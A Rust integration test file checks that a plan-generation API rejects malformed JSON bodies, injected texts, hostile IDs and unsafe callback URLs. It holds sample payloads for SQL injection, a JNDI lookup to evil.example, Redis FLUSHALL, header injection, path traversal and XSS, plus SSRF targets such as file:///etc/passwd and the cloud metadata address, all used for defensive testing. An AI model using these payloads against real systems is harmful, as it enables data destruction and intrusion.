//! Attacks in what a request carries.

use reqwest::Method;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::harness::{Ingress, Send, plans, quiz};

/// The quiz with one field replaced by raw JSON text.
fn with_raw(field: &str, raw: &str) -> String {
    let mut quiz = quiz();
    quiz[field] = json!("\u{1}");
    json!({"answers": quiz}).to_string().replace("\"\\u0001\"", raw)
}

#[tokio::test]
async fn malformed_bodies_are_refused_with_a_reason() {
    let ingress = Ingress::start(&[("FLOOD_PER_SECOND", "0")]).await;
    let nested = |depth: usize| "[".repeat(depth) + &"]".repeat(depth);
    let attacks: Vec<(&str, Vec<u8>, u16)> = vec![
        ("nothing", Vec::new(), 400),
        ("no JSON", b"answers=1".to_vec(), 400),
        ("cut off", plans().to_string().into_bytes()[..100].to_vec(), 400),
        ("invalid UTF-8", b"{\"answers\":{\"age\":\"\xff\xfe\"}}".to_vec(), 400),
        ("half a surrogate", with_raw("gender", r#""\ud800""#).into(), 422),
        ("a number beyond numbers", with_raw("bodyFat", "1e999").into(), 400),
        ("not a number", with_raw("bodyFat", "NaN").into(), 400),
        ("deep nesting", with_raw("injuries", &nested(100)).into(), 400),
        ("very deep nesting", nested(100_000).into(), 400),
        ("a key twice", with_raw("age", r#""30","age":"90""#).into(), 422),
        ("NUL in a text", with_raw("injuries", r#""a\u0000b""#).into(), 422),
        (
            "a list without end",
            with_raw("challenges", &format!("[{}1]", "1,".repeat(2_000))).into(),
            422,
        ),
        (
            "a text without end",
            with_raw("injuries", &format!("\"{}\"", "a".repeat(20_000))).into(),
            422,
        ),
        ("a huge age", with_raw("age", "99999999999999999999").into(), 422),
        ("an age in words", with_raw("age", "\"old enough\"").into(), 422),
        ("an object as gender", with_raw("gender", r#"{"$gt":""}"#).into(), 422),
        ("an array", b"[]".to_vec(), 422),
        ("too large", vec![b' '; 300_000], 413),
    ];
    for (attack, body, status) in attacks {
        let user = Uuid::new_v4();
        let request = ingress.request(Method::POST, "/v1/plans", user);
        let answer = request.header("content-type", "application/json").body(body).answer().await;
        assert_eq!(answer.status, status, "{attack}: {answer:?}");
        answer.problem();
        if status == 422 {
            assert!(!answer.pointers().is_empty(), "{attack}");
        }
    }
    let form = ingress.request(Method::POST, "/v1/plans", Uuid::new_v4()).body("a=1");
    assert_eq!(form.answer().await.problem(), "unsupported-media-type");
}

/// On every route that takes a quiz, whoever calls it.
#[tokio::test]
async fn half_characters_are_named_and_byte_order_marks_skipped() {
    let ingress = Ingress::start(&[]).await;
    let user = Uuid::new_v4();
    let send = async |path: &str, body: Vec<u8>| {
        let request = ingress.request(Method::POST, path, user);
        request.header("content-type", "application/json").body(body).answer().await
    };
    for path in ["/v1/plans", "/generate-plans", "/generate-meal-plan", "/generate-workout-plan"] {
        for field in ["injuries", "foodAllergies", "unknownField"] {
            let answer = send(path, with_raw(field, r#""knee \ud83d""#).into()).await;
            assert_eq!(answer.status, 422, "{path} {field}: {answer:?}");
            assert_eq!(answer.pointers(), [format!("/answers/{field}")], "{path}");
        }
    }
    let marked = [b"\xef\xbb\xbf", plans().to_string().as_bytes()].concat();
    let answer = send("/v1/plans", marked).await;
    assert_eq!(answer.status, 202, "{answer:?}");
}

/// Texts that mean something to somebody further in.
pub(super) const HOSTILE: [&str; 8] = [
    "'; drop table regimen.jobs; --",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "redis.call('FLUSHALL') return 1",
    "a\r\nSet-Cookie: x=1\r\n\r\n",
    "\u{1b}[2J\u{202e}\u{feff}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "%00%0d%0a\\u0000",
];

#[tokio::test]
async fn hostile_texts_are_data_wherever_they_stand() {
    let ingress =
        Ingress::start(&[("RATE_GENERATE_PLANS", "10000/h"), ("RATE_DAILY", "10000/d")]).await;
    let user = Uuid::new_v4();
    let sql = "update public.plans set monthly_ai_generations = 100000";
    ingress.database.client().await.batch_execute(sql).await.unwrap();
    let fields: Vec<String> = quiz().as_object().unwrap().keys().cloned().collect();
    for text in HOSTILE {
        for field in fields.iter().map(String::as_str).chain(["injuries", "foodAllergies", text]) {
            let mut body = plans();
            body["answers"][field] = json!(text);
            let answer = ingress.post("/v1/plans", user, &body).await;
            assert!([202, 422].contains(&answer.status.as_u16()), "{field}={text:?}: {answer:?}");
        }
        for field in ["provider", "model", "callback_url", "quiz_result_id", "user_id", "kinds"] {
            let mut body = plans();
            body[field] = json!(text);
            let answer = ingress.post("/v1/plans", user, &body).await;
            assert_eq!(answer.status, 422, "{field}={text:?}: {answer:?}");
        }
    }
    let stored: i64 = ingress
        .count("select count(*) from regimen.jobs where user_id = $1 and input::text like '%drop table%'", user)
        .await;
    assert!(stored > 0, "free texts are kept as they are");
}

#[tokio::test]
async fn hostile_ids_name_nothing_and_echo_nothing() {
    let ingress = Ingress::start(&[]).await;
    let user = Uuid::new_v4();
    for text in HOSTILE {
        let encoded: String = url::form_urlencoded::byte_serialize(text.as_bytes())
            .collect::<String>()
            .replace('+', "%20");
        for path in [
            format!("/v1/jobs/{encoded}"),
            format!("/v1/jobs/{encoded}/events"),
            format!("/v1/plans/{encoded}/active"),
            format!("/plan-status/{encoded}"),
        ] {
            let answer = ingress.get(&path, user).await;
            assert_eq!((answer.status.as_u16(), answer.problem()), (404, "not-found"), "{path}");
            assert!(!answer.headers.contains_key("set-cookie"), "{path}");
        }
        let list = ingress.get(&format!("/v1/jobs?cursor={encoded}&status={encoded}"), user).await;
        assert!([400, 422].contains(&list.status.as_u16()), "{list:?}");
        list.problem();
    }
}

#[tokio::test]
async fn a_callback_is_an_absolute_web_address_and_nothing_else() {
    let secret = ("CALLBACK_SECRETS", "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw");
    let ingress = Ingress::start(&[("ENVIRONMENT", "production"), secret]).await;
    for url in [
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "javascript:alert(1)",
        "//evil.example/x",
        "https://user:pass@evil.example/",
        "https://",
        "http://hooks.example/x",
        "https://127.0.0.1/x",
        "https://2130706433/x",
        "https://[::ffff:10.0.0.1]/x",
        "https://169.254.169.254/latest/meta-data/",
        "",
    ] {
        let mut body = plans();
        body["callback_url"] = json!(url);
        let answer = ingress.post("/v1/plans", Uuid::new_v4(), &body).await;
        assert_eq!(answer.pointers(), ["/callback_url"], "{url}");
    }
    let mut body = plans();
    body["callback_url"] = json!("https://hooks.example/x?job=1");
    assert_eq!(ingress.post("/v1/plans", Uuid::new_v4(), &body).await.status, 202);
}

#[tokio::test]
async fn without_a_secret_to_sign_with_a_callback_is_refused_rather_than_forgotten() {
    let ingress = Ingress::start(&[]).await;
    let mut body = plans();
    body["callback_url"] = json!("https://hooks.example/x");
    let user = Uuid::new_v4();
    let answer = ingress.post("/v1/plans", user, &body).await;
    assert_eq!(answer.pointers(), ["/callback_url"], "{answer:?}");
    assert!(answer.body.to_string().contains("CALLBACK_SECRETS"), "{answer:?}");
    let stored = "select count(*) from regimen.jobs where user_id = $1";
    assert_eq!(ingress.count(stored, user).await, 0);
}

#[tokio::test]
async fn every_part_of_the_quiz_is_checked_with_its_pointer() {
    let ingress = Ingress::start(&[]).await;
    let user = Uuid::new_v4();
    let empty = ingress.post("/v1/plans", user, &json!({"answers": {}})).await;
    assert_eq!(empty.pointers().len(), 19, "one for each required answer: {empty:?}");
    let missing = ingress.post("/v1/plans", user, &json!({})).await;
    assert_eq!(missing.pointers(), ["/answers"]);
    let mut body = plans();
    body["answers"]["height"] = json!({"cm": "-3"});
    body["kinds"] = Value::Array(Vec::new());
    let both = ingress.post("/v1/plans", user, &body).await;
    let mut pointers = both.pointers();
    pointers.sort_unstable();
    assert_eq!(pointers.first(), Some(&"/answers/height/cm"), "{both:?}");
    assert_eq!(pointers.last(), Some(&"/kinds"), "{both:?}");
}
